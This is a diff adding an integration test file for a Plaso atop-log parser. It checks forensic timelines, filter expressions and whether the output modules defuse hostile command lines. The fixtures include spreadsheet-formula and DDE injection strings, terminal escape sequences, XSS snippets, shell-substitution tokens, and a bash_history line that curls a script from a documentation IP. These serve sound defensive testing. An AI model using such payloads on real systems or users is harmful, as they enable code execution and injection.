@@ -1,0 +1,512 @@
+"""Tests of the tools of Plaso with the package installed."""
+
+import csv
+import gzip
+import json
+import os
+import re
+import shutil
+import struct
+import subprocess
+import sys
+import tempfile
+import unittest
+import zipfile
+
+from plaso_atop import rawlog
+
+from tests import test_lib
+
+# What a log can hold to harm the one who reads it.
+HOSTILE_COMMAND_LINES = (
+    b'=HYPERLINK("http://192.0.2.1/","click")',
+    b"+1+cmd|' /C calc'!A0",
+    b"-2+3",
+    b"@SUM(1+1)",
+    b"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",
+    b"first\nsecond\r\nthird\ttab",
+    b"nul\x00hidden",
+    b"comma, \"double\" 'single' ; | semicolon",
+    b"evil\xe2\x80\xaetxt.exe \xe2\x80\x8bzero\xc2\xa0width",
+    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
+    bytes(range(128, 256)) + bytes(range(128, 255)),
+    b"{user_identifier} {0} %s %n ${HOME} `id`",
+    b"\xf0\x9f\x92\xa9 \xf3\xa0\x80\x81 tag \xef\xbf\xbe",
+    b"\x9b31mC1 control\x85next line \xc2\x9b31m \xe2\x80\xa8separator",
+)
+
+# All that need neither a server nor crash on any input, as kml does.
+OUTPUT_MODULES = (
+    "dynamic",
+    "json",
+    "json_line",
+    "l2tcsv",
+    "l2ttln",
+    "tln",
+    "rawpy",
+    "xlsx",
+)
+
+
+def CreateHostileLog(data):
+    """Replaces the command lines of the first processes of a log.
+
+    Args:
+      data (bytes): contents of the log.
+
+    Returns:
+      bytes: contents of the log with the first of its samples.
+    """
+    with tempfile.TemporaryFile() as file_object:
+        file_object.write(data)
+        log = rawlog.RawLog(file_object)
+        sample = next(log.samples())
+        tasks = bytearray(b"".join(sample.tasks_block.GetPieces(log.tstatlen)))
+        cmdline = next(
+            (offset, member.count)
+            for name, offset, member in log.layout.tstat.Flatten()
+            if name == "gen.cmdline"
+        )
+        processes = [task.data_offset for task in sample.processes()]
+
+    for position, command_line in zip(processes, HOSTILE_COMMAND_LINES):
+        offset, size = cmdline
+        tasks[position + offset : position + offset + size] = command_line.ljust(
+            size, b"\x00"
+        )[:size]
+
+    compressed = rawlog.zlib.compress(bytes(tasks))
+    record = bytearray(data[sample.offset : sample.system_block.offset])
+    struct.pack_into(
+        "<I", record, log.layout.rawrecord.members["pcomplen"].offset, len(compressed)
+    )
+    return (
+        data[: sample.offset]
+        + bytes(record)
+        + data[sample.system_block.offset : sample.system_block.end_offset]
+        + compressed
+        + data[sample.tasks_block.end_offset : sample.end_offset]
+    )
+
+
+class ToolsTestCase(test_lib.BaseTestCase):
+    """Shared functionality to run the tools of Plaso."""
+
+    @classmethod
+    def setUpClass(cls):
+        """Makes a directory for the files of the tests."""
+        super().setUpClass()
+        cls._directory = tempfile.mkdtemp()
+        cls.addClassCleanup(shutil.rmtree, cls._directory)
+
+    @classmethod
+    def _GetPath(cls, name):
+        """Retrieves the path of a file of the tests.
+
+        Args:
+          name (str): name of the file.
+
+        Returns:
+          str: path of the file.
+        """
+        return os.path.join(cls._directory, name)
+
+    @classmethod
+    def _RunTool(cls, name, *arguments):
+        """Runs a tool of Plaso.
+
+        Args:
+          name (str): name of the tool.
+          arguments (list[str]): arguments.
+
+        Returns:
+          str: what the tool printed.
+
+        Raises:
+          AssertionError: if the tool failed or printed a traceback.
+        """
+        process = subprocess.run(
+            [sys.executable, "-m", f"plaso.scripts.{name:s}", *arguments],
+            check=False,
+            cwd=cls._directory,
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+            timeout=300,
+        )
+        if process.returncode or "Traceback" in process.stdout:
+            raise AssertionError(f"{name:s} failed: {process.stdout:s}")
+        return process.stdout
+
+    @classmethod
+    def _Extract(cls, source, name, *arguments):
+        """Extracts events with log2timeline.
+
+        Args:
+          source (str): path of the source.
+          name (str): name of the storage file.
+          arguments (list[str]): more arguments.
+
+        Returns:
+          str: path of the storage file.
+        """
+        path = cls._GetPath(name)
+        cls._RunTool(
+            "log2timeline",
+            "--quiet",
+            "--unattended",
+            "--status-view",
+            "none",
+            "--logfile",
+            cls._GetPath("log2timeline.log.gz"),
+            "--storage-file",
+            path,
+            *arguments,
+            source,
+        )
+        return path
+
+    @classmethod
+    def _Output(cls, storage_path, module, *arguments):
+        """Writes events with psort.
+
+        Args:
+          storage_path (str): path of the storage file.
+          module (str): name of the output module.
+          arguments (list[str]): more arguments.
+
+        Returns:
+          str: path of the output.
+        """
+        path = cls._GetPath(f"{os.path.basename(storage_path):s}.{module:s}")
+        if os.path.exists(path):
+            os.remove(path)
+        cls._RunTool(
+            "psort",
+            "--quiet",
+            "--unattended",
+            "--status-view",
+            "none",
+            "--logfile",
+            cls._GetPath("psort.log.gz"),
+            "-o",
+            module,
+            "-w",
+            path,
+            *arguments,
+            storage_path,
+        )
+        return path
+
+    def _ReadEvents(self, storage_path, *arguments):
+        """Reads the events of a storage file, as psort writes them as JSON lines.
+
+        Args:
+          storage_path (str): path of the storage file.
+          arguments (list[str]): more arguments of psort.
+
+        Returns:
+          list[dict[str, object]]: events.
+        """
+        path = self._Output(storage_path, "json_line", *arguments)
+        with open(path, encoding="utf-8") as file_object:
+            return [json.loads(line) for line in file_object]
+
+
+class ImageTest(ToolsTestCase):
+    """Tests with a disk image of a Linux server."""
+
+    _OS_RELEASE = (
+        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n'
+        'NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n'
+    )
+    _PASSWD = (
+        "root:x:0:0:root:/root:/bin/bash\n"
+        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
+        "alice:x:1000:1000::/home/alice:/bin/bash\n"
+        "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
+    )
+
+    @classmethod
+    def setUpClass(cls):
+        """Makes an image and extracts its events."""
+        super().setUpClass()
+        root = cls._GetPath("root")
+        for directory in ("etc", "var/log/atop", "root", "usr/lib"):
+            os.makedirs(os.path.join(root, directory))
+
+        utmp_entry = struct.pack(
+            "<hxxi32s4s32s256shhiii4i20x",
+            7,
+            812,
+            b"pts/0",
+            b"ts/0",
+            b"alice",
+            b"192.0.2.7",
+            0,
+            0,
+            0,
+            1795225000,
+            0,
+            0,
+            0,
+            0,
+            0,
+        )
+        files = {
+            "etc/hostname": b"bastion\n",
+            "etc/os-release": cls._OS_RELEASE.encode(),
+            "etc/passwd": cls._PASSWD.encode(),
+            "root/.bash_history": b"#1795225105\ncurl -s http://192.0.2.66/x.sh\n",
+            "var/log/auth.log": (
+                b"2026-11-21T01:38:20.000000+00:00 bastion sshd[812]: Accepted "
+                b"password for alice from 192.0.2.7 port 50122 ssh2\n" * 3
+            ),
+            "var/log/wtmp": utmp_entry * 2,
+        }
+        for name, log_name in (
+            ("atop_20261120", "atop-2.7.1"),
+            ("atop_20261121", "atop-2.12.1"),
+            ("atop.log.2.gz", "atop-1.26"),
+        ):
+            with open(test_lib.GetTestFilePath([f"{log_name:s}.raw"]), "rb") as log:
+                data = log.read()
+            files[f"var/log/atop/{name:s}"] = (
+                gzip.compress(data) if name.endswith(".gz") else data
+            )
+
+        for name, data in files.items():
+            with open(os.path.join(root, name), "wb") as file_object:
+                file_object.write(data)
+
+        cls._image_path = cls._GetPath("image.raw")
+        mke2fs = shutil.which("mke2fs", path=f"{os.environ['PATH']:s}:/usr/sbin:/sbin")
+        subprocess.run(
+            [mke2fs, "-q", "-t", "ext4", "-d", root, cls._image_path, "16M"],
+            check=True,
+        )
+        cls._storage_path = cls._Extract(cls._image_path, "image.plaso")
+
+    def testTimeline(self):
+        """Tests that the events stand among those of other artifacts."""
+        path = self._Output(
+            self._storage_path,
+            "dynamic",
+            "--fields",
+            "datetime,timestamp_desc,hostname,username,source,message,display_name",
+        )
+        with open(path, encoding="utf-8", newline="") as file_object:
+            rows = list(csv.DictReader(file_object))
+
+        for row in rows:
+            self.assertNotIn("DEFAULT FORMATTER", row["message"])
+
+        messages = [row["message"] for row in rows]
+        for expected in (
+            "Successful login of user: alice",
+            "curl -s http://192.0.2.66",
+            "Process: ",
+        ):
+            self.assertTrue(any(expected in message for message in messages), expected)
+        self.assertTrue(any("pts/0" in message for message in messages))
+
+        atop_rows = [row for row in rows if "/var/log/atop/" in row["display_name"]]
+        processes = [row for row in atop_rows if row["message"].startswith("Process: ")]
+        for name in ("atop_20261120", "atop_20261121", "atop.log.2.gz"):
+            self.assertTrue(any(name in row["display_name"] for row in processes), name)
+        for row in processes:
+            self.assertIn(row["hostname"], ("bastion", "mail", "k8s-node-03"))
+
+        usernames = {
+            re.search(r" UID: (\d+)", row["message"])[1]: row["username"]
+            for row in processes
+            if "Container" not in row["message"]
+        }
+        self.assertEqual(usernames["0"], "root")
+        self.assertEqual(usernames["33"], "www-data")
+        self.assertEqual(usernames["1000"], "alice")
+        self.assertEqual(usernames["65534"], "nobody")
+        # No account has this identifier.
+        self.assertEqual(usernames["1004"], "-")
+
+    def testPreset(self):
+        """Tests which parsers the default set and filter expressions run."""
+        information = self._RunTool("pinfo", self._storage_path)
+        parser_names = re.findall(r"^ *(\w+) : \d+$", information, re.MULTILINE)
+        for name in ("session", "process", "system", "network", "bash_history", "utmp"):
+            self.assertIn(name, parser_names)
+        for name in ("activity", "cgroup", "disk", "thread"):
+            self.assertNotIn(name, parser_names)
+
+    def testWarnings(self):
+        """Tests that an image without damage gives no warnings of the parser."""
+        information = self._RunTool(
+            "pinfo", "--sections", "warnings", "-v", self._storage_path
+        )
+        self.assertNotIn("atop", information.replace("/atop/", ""))
+
+    def testImageExport(self):
+        """Tests that files are exported by their signature."""
+        export_path = self._GetPath("export")
+        self._RunTool(
+            "image_export",
+            "--quiet",
+            "--unattended",
+            "--logfile",
+            self._GetPath("image_export.log.gz"),
+            "-w",
+            export_path,
+            "--names",
+            "atop_20261121",
+            self._image_path,
+        )
+        with open(
+            os.path.join(export_path, "var", "log", "atop", "atop_20261121"), "rb"
+        ) as file_object:
+            self.assertEqual(file_object.read(4), rawlog.MAGIC_LITTLE_ENDIAN)
+
+
+class FilterTest(ToolsTestCase):
+    """Tests of parser filter expressions."""
+
+    def _GetPlugins(self, *arguments):
+        """Determines which plugins gave events.
+
+        Args:
+          arguments (list[str]): arguments of log2timeline.
+
+        Returns:
+          set[str]: parser chains.
+        """
+        name = f"{abs(hash(arguments)):d}.plaso"
+        path = self._Extract(
+            test_lib.GetTestFilePath(["atop-2.12.1.raw"]), name, *arguments
+        )
+        return {
+            re.sub(r".*/", "", event["parser"])
+            for event in self._ReadEvents(path)
+            if event["data_type"].startswith("linux:atop:")
+        }
+
+    def testExpressions(self):
+        """Tests filter expressions."""
+        default_plugins = {"session", "process", "system", "network"}
+        self.assertEqual(self._GetPlugins(), default_plugins)
+        self.assertEqual(self._GetPlugins("--parsers", "linux"), default_plugins)
+        self.assertEqual(self._GetPlugins("--parsers", "atop/process"), {"process"})
+        self.assertEqual(
+            self._GetPlugins("--parsers", "linux,!atop/system"),
+            default_plugins - {"system"},
+        )
+        self.assertLess(default_plugins, self._GetPlugins("--parsers", "atop"))
+
+
+class OutputTest(ToolsTestCase):
+    """Tests of what the output modules make of hostile values."""
+
+    @classmethod
+    def setUpClass(cls):
+        """Makes logs and extracts their events."""
+        super().setUpClass()
+        source = cls._GetPath("source")
+        os.makedirs(source)
+        with open(test_lib.GetTestFilePath(["atop-2.12.1.raw"]), "rb") as file_object:
+            data = file_object.read()
+
+        # Times before 1970, in the year 10000 and at the end of what 64 bits can hold.
+        for index, curtime in enumerate((-1, 0, 253402300800, (1 << 62), -(1 << 63))):
+            with open(os.path.join(source, f"time{index:d}"), "wb") as file_object:
+                file_object.write(data[:480] + struct.pack("<q", curtime) + data[488:])
+
+        with open(os.path.join(source, "hostile"), "wb") as file_object:
+            file_object.write(CreateHostileLog(data))
+        with open(os.path.join(source, "cut"), "wb") as file_object:
+            file_object.write(data[:20000] + bytes(4096) + data[24096:-100])
+
+        cls._storage_path = cls._Extract(source, "source.plaso", "--parsers", "atop")
+
+    def _ReadText(self, module):
+        """Reads the output of a module as text.
+
+        Args:
+          module (str): name of the output module.
+
+        Returns:
+          str: output.
+        """
+        path = self._Output(self._storage_path, module)
+        if module != "xlsx":
+            with open(path, encoding="utf-8", newline="") as file_object:
+                return file_object.read()
+
+        with zipfile.ZipFile(path) as zip_file:
+            return "".join(
+                zip_file.read(name).decode("utf-8")
+                for name in zip_file.namelist()
+                if "heet" in name or "Strings" in name
+            )
+
+    def testModules(self):
+        """Tests that no module fails or passes on a character that does harm."""
+        for module in OUTPUT_MODULES:
+            text = self._ReadText(module)
+            with self.subTest(module=module):
+                self.assertIn("linux:atop" if module == "rawpy" else "Process", text)
+                self.assertNotIn("DEFAULT FORMATTER", text)
+                for character in text:
+                    self.assertTrue(
+                        character.isprintable() or character in " \n\r", repr(character)
+                    )
+
+    def testFormulas(self):
+        """Tests that no field of a spreadsheet is a formula."""
+        path = self._Output(self._storage_path, "dynamic")
+        with open(path, encoding="utf-8", newline="") as file_object:
+            for row in csv.reader(file_object):
+                for field in row:
+                    self.assertNotIn(field[:1], ("=", "+", "@", "\t"))
+
+        self.assertNotIn("<f>", self._ReadText("xlsx"))
+
+    def testText(self):
+        """Tests what events hold of hostile command lines."""
+        command_lines = {
+            event.get("command_line")
+            for event in self._ReadEvents(self._storage_path)
+            if event["data_type"] == "linux:atop:process"
+            and event["display_name"].endswith("hostile")
+        }
+        for expected in (
+            '=HYPERLINK("http://192.0.2.1/","click")',
+            "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred\\x1b[0m",
+            "first\\x0asecond\\x0d\\x0athird\\x09tab",
+            "nul",
+            "evil\\u202etxt.exe \\u200bzero\\xa0width",
+            "".join(
+                f"\\x{value:02x}" for value in [*range(128, 256), *range(128, 255)]
+            ),
+            "{user_identifier} {0} %s %n ${HOME} `id`",
+            "\U0001f4a9 \\ue0001 tag \\ufffe",
+            "\\x9b31mC1 control\\x85next line \\x9b31m \\u2028separator",
+        ):
+            self.assertIn(expected, command_lines)
+
+    def testTimes(self):
+        """Tests times that Plaso cannot show."""
+        events = [
+            event
+            for event in self._ReadEvents(self._storage_path)
+            if "time" in os.path.basename(event["display_name"])
+            and event["data_type"] == "linux:atop:session"
+            and event["timestamp_desc"] == "Start Time"
+        ]
+        invalid = [event for event in events if event["timestamp"] == 0]
+        self.assertEqual(len(invalid), 5)
+        for event in events:
+            self.assertLess(event["timestamp"], 253402300800 * 1000000)
+            self.assertGreaterEqual(event["timestamp"], 0)
+
+
+if __name__ == "__main__":
+    unittest.main()
